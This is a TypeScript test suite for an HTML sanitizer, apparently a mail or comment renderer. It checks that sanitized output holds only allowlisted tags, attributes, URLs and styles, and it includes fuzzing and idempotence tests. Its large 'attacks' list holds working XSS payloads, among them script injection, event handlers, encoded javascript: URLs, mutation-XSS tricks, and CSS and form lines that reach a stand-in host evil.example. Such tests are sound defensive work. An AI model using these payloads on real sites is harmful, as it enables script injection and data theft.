// SPDX-License-Identifier: Apache-2.0
import fc from 'fast-check';
import { safeHtml } from './safeHtml';

// What may stand in the result; anything else is a hole. The result is read
// with a strict reader of its own, not with the library under test.
const TAG = /<(\/?)([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*) ?(\/?)>/y;
const ATTRIBUTE = / ([a-z]+)="([^"<>]*)"/g;

const TAGS = new Set(
  'a abbr address b bdi bdo blockquote br caption center cite code col colgroup dd del dfn div dl dt em figcaption figure font h1 h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre q s samp small span strike strong sub sup table tbody td tfoot th thead tr tt u ul var wbr'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'align colspan color dir href lang rel rowspan scope span start style target type valign'.split(
    ' ',
  ),
);

function expectHarmless(html: string) {
  let at = 0;
  while (at < html.length) {
    if (html[at] !== '<') {
      expect(html[at]).not.toBe('>');
      at += 1;
      continue;
    }
    TAG.lastIndex = at;
    const tag = TAG.exec(html);
    expect({ html: html.slice(at, at + 80), isTag: tag !== null }).toEqual({
      html: html.slice(at, at + 80),
      isTag: true,
    });
    expect(TAGS).toContain(tag![2]);
    for (const [, name, value] of tag![3].matchAll(ATTRIBUTE)) {
      expect(ATTRIBUTES).toContain(name);
      if (name === 'href') {
        expect(value).toMatch(/^(?:https?:\/\/[^@/]+(?:\/|$)|mailto:)/);
      }
      if (name === 'style') {
        expect(value).toMatch(/^[a-z0-9:;#%., ()-]+$/i);
        expect(value).not.toMatch(
          /url|expression|import|behavior|position|display|z-index|var\(|attr\(|image|-\d/i,
        );
      }
    }
    at = TAG.lastIndex;
  }
}

const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script/x>alert(1)</script/x>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>/*<p>*/alert(1)</script>',
  '<script><!--</script><img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" alt="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<img alt="<b onmouseover=alert(1)>">',
  '<img/src/onerror=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<image href=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><img src=x onerror=alert(1)></noframes>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<style>@import url(//evil.example);body{display:none}</style>',
  '<style><img src=x onerror=alert(1)></style>',
  '<style>*{}</style/x><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<option>&lt;img src=x onerror=alert(1)&gt;</option>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<applet code=x></applet>',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<link rel=dns-prefetch href="//evil.example">',
  '<body onload=alert(1) background="//evil.example/x">',
  '<table background="//evil.example/x"><tr><td background=javascript:alert(1)>x</td></tr></table>',
  '<video poster="//evil.example/x"><source src=//evil.example/y onerror=alert(1)></video>',
  '<audio src=//evil.example/x onerror=alert(1)></audio>',
  '<picture><source srcset="//evil.example/x"><img srcset="//evil.example/y 2x"></picture>',
  '<input type=image src=//evil.example/x>',
  '<p onclick=alert(1) onmouseover="alert(1)">x</p>',
  '<p id=x class=y name=z data-x=1 title=t>x</p>',
  '<p/onclick=alert(1)//>x',
  '<p "onclick=alert(1)">x</p>',
  '<p a="x"onclick="alert(1)">x</p>',
  '<p a=`x` onclick=alert(1)>x</p>',
  '<p \0onclick=alert(1)>x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x-custom onfocus=alert(1) tabindex=1 autofocus>x</x-custom>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href=" \x01javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/api/incoming-mail/x">x</a>',
  '<a href="#x">x</a>',
  '<a href="?x">x</a>',
  '<a href="https://good.example@evil.example/">x</a>',
  '<a href="https://user:pass@evil.example/">x</a>',
  '<a href="https://x/&quot; onclick=&quot;alert(1)">x</a>',
  '<a href=\'https://x/"onclick="alert(1)\'>x</a>',
  '<a href="https://x/" target=_top rel=opener ping=//evil.example download>x</a>',
  '<area href="javascript:alert(1)">',
  '<p style="background:url(//evil.example/x)">x</p>',
  '<p style="background-color:url(//evil.example/x)">x</p>',
  '<p style="color:red;background-image:image-set(\'//evil.example/x\' 1x)">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="color:e/**/xpression(alert(1))">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="-moz-binding:url(//evil.example)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9">x</p>',
  '<p style="width:99999px">x</p>',
  '<p style="margin:-500px;padding:-1em">x</p>',
  '<p style="color:red\\3b position:fixed">x</p>',
  '<p style="color:red}body{display:none">x</p>',
  '<p style="font-family:\'x\\27;position:fixed\'">x</p>',
  '<p style="color:var(--x);--x:url(//evil.example)">x</p>',
  '<p style="width:calc(100vw)">x</p>',
  '<p style="content:attr(title)">x</p>',
  '<p style="@import url(//evil.example)">x</p>',
  '<p style="cursor:url(//evil.example),auto">x</p>',
  '<p style="list-style-type:url(//evil.example)">x</p>',
  '<p style="COLOR:RED;Position:Fixed">x</p>',
  '<font color="red;background:url(//evil.example)">x</font>',
  '<p align="left;x">x</p><p dir="x y"></p><p lang="&quot;">x</p>',
  '<td colspan="1e9">x</td><td rowspan=-1>x</td>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1?>',
  '<!doctype html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '</p><p <img src=x onerror=alert(1)>>',
  '<p><b <a href="javascript:alert(1)">x</a></p>',
  '<a href="https://x.example/<script>">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<p>\u2028<\u0000script>alert(1)</script></p>',
  '<b><p><td><table><tr></b></p>',
  `${'<div>'.repeat(500)}x`,
];

describe('safeHtml', () => {
  it.each([
    '<script>',
    '<p onclick="x">',
    '<p onclick=x>',
    '<a href="javascript:x">',
    '<a href="//evil.example">',
    '<a href="https://good@evil.example/">',
    '<p style="background:url(x)">',
    '<p style="position:fixed">',
    'a > b',
    '<p',
  ])('is tested by a reader that finds the hole in %j', html => {
    expect(() => expectHarmless(html)).toThrow();
  });

  it.each(attacks)(
    'leaves nothing harmful of %j (T41, T43, T44, T45)',
    html => {
      expectHarmless(safeHtml(html));
      expectHarmless(safeHtml(`<p>before ${html} after</p>`));
      expectHarmless(safeHtml(`<table><tr><td>${html}`));
    },
  );

  it.each([
    [
      '<p>Hello <b>there</b><br>&amp; &lt;you&gt;</p>',
      '<p>Hello <b>there</b><br />&amp; &lt;you&gt;</p>',
    ],
    [
      '<a href="https://example.com/a?b=c&amp;d">x</a>',
      '<a href="https://example.com/a?b=c&amp;d" rel="noopener noreferrer nofollow ugc" target="_blank">x</a>',
    ],
    [
      '<a href="mailto:ann@example.com" target="_top">x</a>',
      '<a href="mailto:ann@example.com" rel="noopener noreferrer nofollow ugc" target="_blank">x</a>',
    ],
    [
      '<a href="https://аpple.example/">x</a>',
      '<a href="https://xn--pple-43d.example/" rel="noopener noreferrer nofollow ugc" target="_blank">x</a>',
    ],
    ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
    [
      '<p style="color: #FF0000; POSITION:fixed; margin: 0 auto">x</p>',
      '<p style="color:#FF0000;margin:0 auto">x</p>',
    ],
    [
      '<td style="border:1px solid rgb(1, 2, 3)" colspan="2">x</td>',
      '<td style="border:1px solid rgb(1, 2, 3)" colspan="2">x</td>',
    ],
    ['<p style="position:fixed">x</p>', '<p>x</p>'],
    [
      'a<img src="https://t.example/1.gif" alt="A &amp; B">b',
      'a<span>A &amp; B</span>b',
    ],
    ['a<img src="cid:1@x">b', 'a<span></span>b'],
    ['<style>p{}</style><title>t</title><p class="x">text</p>', '<p>text</p>'],
    ['<unknown>text stays</unknown>', 'text stays'],
    ['', ''],
  ])('makes %j into %j', (html, safe) => {
    expect(safeHtml(html)).toBe(safe);
  });

  it.each(attacks)('changes nothing at the second time: %j (T42)', html => {
    const once = safeHtml(html);
    expect(safeHtml(once)).toBe(once);
  });

  it('is harmless and final, whatever is put together (T41, T42)', () => {
    const piece = fc.oneof(
      fc.constantFrom(...attacks),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '=',
        '/',
        '&',
        ';',
        ' ',
        '\0',
        '-->',
        '<!--',
        '</',
        '<p ',
        '<a href=',
        'style="',
        'color:red',
        'url(',
        '&#',
        '&lt',
        '&amp;lt;',
        '<b>',
        '</b>',
        '<table>',
        '<td>',
        '<xmp>',
        '</xmp>',
        '<svg>',
        '</svg>',
        '<math>',
        '<textarea>',
        '<option>',
        '<img alt="',
        '\u2028',
        '\ud800',
      ),
      fc.string({ unit: 'binary', maxLength: 10 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 10 }), pieces => {
        const once = safeHtml(pieces.join(''));
        expectHarmless(once);
        expect(safeHtml(once)).toBe(once);
      }),
      { numRuns: 2_000 },
    );
  });

  it('ends soon for what is made to take long', () => {
    for (const piece of [
      '<b>',
      '<p><td>',
      '</i>',
      '<',
      '&',
      '<!--',
      '<a ',
      ' x=y',
      '<p style="',
      'color:red;',
    ]) {
      expectHarmless(safeHtml(`<b>${piece.repeat(300_000)}`).slice(0, 0));
    }
    safeHtml(`${'<b>'.repeat(20_000)}${'</i>'.repeat(200_000)}`);
    safeHtml(
      `<p ${Array.from({ length: 50_000 }, (_, n) => `a${n}=1`).join(' ')}>`,
    );
  });
});
